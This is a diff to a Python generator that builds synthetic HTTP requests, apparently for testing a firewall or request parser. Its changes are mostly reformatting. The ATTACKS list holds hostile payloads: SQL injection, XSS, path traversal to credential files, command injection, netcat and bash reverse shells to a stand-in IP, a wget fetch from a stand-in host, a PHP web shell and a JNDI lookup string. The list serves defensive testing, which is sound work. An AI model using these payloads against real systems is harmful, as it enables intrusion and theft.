@@ -24,20 +24,20 @@ ATTACKS = (
     "1' or '1'='1", "1 or 1=1--", "') union select null,version()-- -", "1; drop table users", "admin'/*", "sleep(5)#",
     "1 and extractvalue(1,concat(0x7e,user()))", "x' and benchmark(1000000,md5(1))#", "1 group by 1 having 1=1",
     "-1 union all select 1,2,group_concat(table_name) from information_schema.tables", "'; exec xp_cmdshell('dir')--",
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=confirm(1)>", "javascript:alert(1)",
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=confirm(1)>', "javascript:alert(1)",
     "<iframe src=//evil.test>", "<a href='vbscript:x'>", "';alert(document.cookie)//", "<style>@import'x'</style>",
     "<object data=x>", "<form action=//e.test><button>", "expression(alert(1))", "<math><mtext></form>",
     "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "file:///etc/hosts", "....//....//etc/passwd",
     "/proc/self/environ", "C:\\boot.ini", ".htaccess", "WEB-INF/web.xml", ".git/config", "id_rsa",
     ";cat /etc/passwd", "|id", "`whoami`", "$(uname -a)", "&& wget http://e.test/x.sh", "() { :;}; echo x", "; nc -e /bin/sh 1.2.3.4 9",
     "|| ping -c 3 127.0.0.1", "powershell -enc SQBFAFgA", "cmd.exe /c dir", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", ";ls${IFS}-la",
-    "<?php system($_GET['c']); ?>", "php://input", "phpinfo()", "base64_decode('eA==')", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
+    "<?php system($_GET['c']); ?>", "php://input", "phpinfo()", "base64_decode('eA==')", 'O:8:"stdClass":1:{s:1:"a";i:1;}',
     "eval(String.fromCharCode(97))", "require('child_process').exec('id')", "process.mainModule.require", "_$$ND_FUNC$$_function(){}",
-    "${jndi:ldap://e.test/a}", "java.lang.Runtime.getRuntime().exec(\"id\")", "%{(#a=1)}", "rO0ABXNyAA==", "T(java.lang.Runtime)",
+    "${jndi:ldap://e.test/a}", 'java.lang.Runtime.getRuntime().exec("id")', "%{(#a=1)}", "rO0ABXNyAA==", "T(java.lang.Runtime)",
     "http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/admin", "ftp://1.2.3.4/x.php?", "https://e.test/shell.txt?",
     "x\r\nSet-Cookie: a=b", "x\nLocation: http://e.test", "a%0d%0aContent-Length: 0", "HTTP/1.1 200 OK", "*)(uid=*))(|(uid=*",
-    "<!--#exec cmd=\"id\"-->", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "\0", "a\0b", "PHPSESSID=1234", "jsessionid=1",
-    "%c0%af", "\u212a\uff1cscript\uff1e", "1/**/or/**/1=1", "CHAR(65,66)", "0x3c736372697074", "waitfor delay '0:0:5'", "{\"$ne\": null}",
+    '<!--#exec cmd="id"-->', "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "\0", "a\0b", "PHPSESSID=1234", "jsessionid=1",
+    "%c0%af", "\u212a\uff1cscript\uff1e", "1/**/or/**/1=1", "CHAR(65,66)", "0x3c736372697074", "waitfor delay '0:0:5'", '{"$ne": null}',
     "true,$where:'1==1'", "<% out.print(1) %>", "#{7*7}", "[[${7*7}]]", "__proto__[x]=1", "constructor.prototype", "@@version",
 )  # fmt: skip
 METHODS = ("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "CONNECT", "PROPFIND", "FOO")
@@ -57,10 +57,17 @@ def from_records(file: Path) -> Iterator[bytes]:
         pairs: list[tuple[str, str]] = []
         for name, value in given:
             pairs += [(name, one) for one in (value if isinstance(value, list) else [value])]
-        pairs = [(n, v) for n, v in pairs if n.lower() not in ("content-length", "transfer-encoding", "connection", "expect")]
+        pairs = [
+            (n, v) for n, v in pairs if n.lower() not in ("content-length", "transfer-encoding", "connection", "expect")
+        ]
         body = as_bytes(record.body or "")
         target = as_bytes(record.path) + (b"?" + as_bytes(record.query) if record.query else b"")
-        head = [as_bytes(record.method) + b" " + quote(target, safe="".join(map(chr, range(33, 127)))).encode() + b" HTTP/1.1"]
+        head = [
+            as_bytes(record.method)
+            + b" "
+            + quote(target, safe="".join(map(chr, range(33, 127)))).encode()
+            + b" HTTP/1.1"
+        ]
         if not any(n.lower() == "host" for n, _ in pairs):
             head.append(b"Host: localhost")
         head += [as_bytes(n, "latin-1") + b": " + as_bytes(v, "latin-1") for n, v in pairs]
@@ -78,8 +85,14 @@ def generated(count: int, seed: int = 7) -> Iterator[bytes]:
 def _request(make: Make) -> bytes:
     hostile = make.random() < 0.6
     value = _spelled(make, make.choice(ATTACKS)) if hostile else make.choice(WORDS)
-    place = make.choice(("query", "query", "form", "json", "json", "xml", "multipart", "cookie", "header", "path", "name", "text"))
-    method = make.choice(METHODS) if make.random() < 0.15 else ("GET" if place in ("query", "cookie", "header", "path", "name") else "POST")
+    place = make.choice(
+        ("query", "query", "form", "json", "json", "xml", "multipart", "cookie", "header", "path", "name", "text")
+    )
+    method = (
+        make.choice(METHODS)
+        if make.random() < 0.15
+        else ("GET" if place in ("query", "cookie", "header", "path", "name") else "POST")
+    )
     path, query, headers, body = "/api/items/42", "", [("Host", "shop.example.com")], b""
     if make.random() < 0.9:
         headers.append(("User-Agent", make.choice(AGENTS)))
@@ -93,7 +106,12 @@ def _request(make: Make) -> bytes:
     elif place == "path":
         path = f"/files/{_quoted(make, value, path=True)}"
     elif place == "cookie":
-        headers.append(("Cookie", f"session=abc123; {make.choice(('pref', '__utma', '_pk_ref.1', 'x'))}={quote(value, safe=' <>()=:/')}"))
+        headers.append(
+            (
+                "Cookie",
+                f"session=abc123; {make.choice(('pref', '__utma', '_pk_ref.1', 'x'))}={quote(value, safe=' <>()=:/')}",
+            )
+        )
     elif place == "header":
         headers.append((make.choice(("X-Forwarded-For", "Referer", "X-Api-Version", "X-Filename", "Range", "Authorization", "User-Agent")),
                         value.translate({10: " ", 13: " ", 0: ""})))  # fmt: skip
@@ -167,14 +185,25 @@ def _quoted(make: Make, text: str, *, path: bool = False) -> str:
 def _body(make: Make, place: str, name: str, value: str) -> tuple[str, bytes]:
     raw = value.encode("utf-8", "surrogatepass")
     if place == "form":
-        return "application/x-www-form-urlencoded", f"a=1&{name}={_quoted(make, value)}&b={quote_plus(make.choice(WORDS))}".encode()
+        return (
+            "application/x-www-form-urlencoded",
+            f"a=1&{name}={_quoted(make, value)}&b={quote_plus(make.choice(WORDS))}".encode(),
+        )
     if place == "json":
         shape = make.choice(
-            ({"item": {name: value, "n": 1.50}}, [1, value, {"deep": [value]}], {name: value, "tags": ["a", None, True]}, value, {value: 1})
+            (
+                {"item": {name: value, "n": 1.50}},
+                [1, value, {"deep": [value]}],
+                {name: value, "tags": ["a", None, True]},
+                value,
+                {value: 1},
+            )
         )
         text = json.dumps(shape, ensure_ascii=make.random() < 0.5)
         if make.random() < 0.06:
-            text = make.choice((text[:-1], text + "x", text.replace(":", "", 1), "{" + text, "\ufeff" + text, text.replace('"', "'")))
+            text = make.choice(
+                (text[:-1], text + "x", text.replace(":", "", 1), "{" + text, "\ufeff" + text, text.replace('"', "'"))
+            )
         return "application/json", text.encode("utf-8", "surrogatepass")
     if place == "xml":
         text = f'<?xml version="1.0"?><r a="{escape(value, {chr(34): "&quot;"})}"><n>{escape(value)}</n><c>x</c></r>'
@@ -188,11 +217,28 @@ def _body(make: Make, place: str, name: str, value: str) -> tuple[str, bytes]:
         end = b"\r\n" if make.random() < 0.95 else b"\n"
         parts = [b"--XyZ", b'Content-Disposition: form-data; name="' + name.encode() + b'"' + filename]
         if make.random() < 0.3:
-            parts.append(make.choice((b"Content-Type: text/plain", b"Content-Type: application/x-php", b"Content-Transfer-Encoding: base64", b"X: y")))
+            parts.append(
+                make.choice(
+                    (
+                        b"Content-Type: text/plain",
+                        b"Content-Type: application/x-php",
+                        b"Content-Transfer-Encoding: base64",
+                        b"X: y",
+                    )
+                )
+            )
         parts += [b"", safe, b"--XyZ", b'Content-Disposition: form-data; name="z"', b"", b"1", b"--XyZ--", b""]
         body = end.join(parts)
         if make.random() < 0.08:
-            body = make.choice((body[:-4], body + b"x", b"x" + end + body, body.replace(b"form-data", b"attachment", 1), body.replace(b"--XyZ", b"--XyZ ", 1)))
+            body = make.choice(
+                (
+                    body[:-4],
+                    body + b"x",
+                    b"x" + end + body,
+                    body.replace(b"form-data", b"attachment", 1),
+                    body.replace(b"--XyZ", b"--XyZ ", 1),
+                )
+            )
         boundary = make.choice(("XyZ", "XyZ", "XyZ", '"XyZ"', "XyZ ", "Abc"))
         return f"multipart/form-data; boundary={boundary}", body
     return make.choice(("text/plain", "application/octet-stream", "")), raw
